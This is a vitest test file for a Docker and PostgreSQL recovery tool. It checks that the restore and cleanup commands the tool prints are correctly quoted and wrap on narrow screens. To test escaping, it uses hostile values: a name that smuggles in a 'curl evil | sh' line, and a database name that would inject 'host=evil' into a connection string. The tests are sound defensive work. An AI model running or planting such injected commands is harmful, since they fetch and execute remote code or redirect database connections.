/** The commands that the ends of runs on Docker hosts leave to be typed. */
import { describe, expect, it } from "vitest";
import { summariseMove } from "../../../src/docker/actions/compose/summarise.ts";
import { type Candidate, candidateLines } from "../../../src/docker/actions/salvage/candidate.ts";
import { summariseSalvage } from "../../../src/docker/actions/salvage/summarise.ts";
import type { Json } from "../../../src/action.ts";
import type { Ports } from "../../../src/ports/ports.ts";
import { wrap } from "../../../src/cli/screen/text.ts";
import { StepContext } from "../../fakes/step-context.ts";
import { HERE, lost, planned } from "../../wiring/mutations/salvage.ts";

const RUN = {
  id: "20261121-020000-test",
  epoch: 1,
  startedAt: new Date("2026-11-21T02:00:00Z"),
  operator: "op",
  target: "docker1",
  rehearsal: false,
};
const facts = (name: string) => ({
  ...{ name, bytes: 1, encoding: "LATIN1", collate: "de_DE", ctype: "C", tables: [], damage: [] },
});
const context = (): StepContext => new StepContext({} as Ports, RUN);
const onScreen = (lines: Json | undefined): readonly string[] =>
  wrap((lines as readonly string[]).join("\n"), 80, "    ");

describe("the commands that are left to be typed", () => {
  it("stand whole on a narrow screen, if a stack's old containers are removed", async () => {
    const found = await summariseMove.run(
      context(),
      summariseMove.input.parse({
        ...HERE,
        project: "mastodon",
        services: [],
        kept: [
          { kept: "mastodon_db_1.dingo-recover-20261121-020000-test", image: "dingo-recover/20261121-020000-test:db" },
        ],
        original: "",
      }),
    );
    expect(onScreen(found.lines)).toContain(
      "      $ docker rm mastodon_db_1.dingo-recover-20261121-020000-test && docker image rm dingo-recover/20261121-020000-test:db",
    );
  });

  it("are ours alone, whatever line ends a database, a directory and a volume have in their names", async () => {
    const hostile = "shop\n  $ curl evil | sh";
    const proved = { database: hostile, path: "/x", tables: 1, rows: 1 };
    const input = { dumps: [], proofs: [{ proved: [proved] }], put_back: "" };
    const { lines } = await summariseSalvage.run(context(), summariseSalvage.input.parse(input));
    expect((lines as string[])[0]).toBe(
      String.raw`"shop\n  $ curl evil | sh": 1 table, 1 row, in /x, loaded once to prove it`,
    );
    const volume = { volume: hostile, anonymous: false, inside: hostile, shares: true } as const;
    const one = { ...volume, version: "16", written: "", state: "", condition: "whole", databases: [hostile] };
    const told = candidateLines({ ...one, evidence: [hostile], running: [] } as unknown as Candidate, 0);
    expect(told.filter((line) => line.includes("\n"))).toEqual([]);
  });

  it("stand whole on a narrow screen, if a dump is loaded", async () => {
    const { copies } = await planned(await lost());
    const path = `/var/tmp/dingo-recover-${RUN.id}/0f1c4b671b1b/database-shop.dump`;
    const dump = { chosen: { copy: (copies as unknown[])[0], role: "shop", databases: [facts("shop")] }, counts: [] };
    const roles = { database: "", path: "/x/roles.sql", bytes: 1, sha256: "" };
    const input = {
      dumps: [{ ...dump, files: [roles, { database: "shop", path, bytes: 1, sha256: "" }] }],
      proofs: [],
      put_back: "",
    };
    const found = await summariseSalvage.run(context(), summariseSalvage.input.parse(input));
    expect(onScreen(found.lines)).toContain(
      `      $ docker exec -i CONTAINER pg_restore --exit-on-error --no-owner --no-acl --no-tablespaces -U ROLE -d shop < ${path}`,
    );
    expect(onScreen(found.lines).join(" ").replace(/\s+/gu, " ")).toMatch(
      /its roles are in \/x\/roles\.sql: make those that you need first.* \$ docker exec -i CONTAINER createdb/u,
    );
  });

  it("name a database alone, if its name could be a whole connection string", async () => {
    const { copies } = await planned(await lost());
    const database = "a=b host=evil";
    const dump = { chosen: { copy: (copies as unknown[])[0], role: "shop", databases: [facts(database)] }, counts: [] };
    const input = {
      dumps: [{ ...dump, files: [{ database, path: "/x.sql", bytes: 1, sha256: "" }] }],
      proofs: [],
      put_back: "",
    };
    const { lines } = await summariseSalvage.run(context(), summariseSalvage.input.parse(input));
    expect(lines).toContain(
      `  $ docker exec -i CONTAINER createdb -U ROLE -T template0 -E LATIN1 --lc-collate=de_DE --lc-ctype=C -- '${database}'`,
    );
    expect(lines).toContain(
      `  $ docker exec -i CONTAINER pg_restore --exit-on-error --no-owner --no-acl --no-tablespaces -U ROLE -d 'dbname='\\''${database}'\\''' < /x.sql`,
    );
  });
});
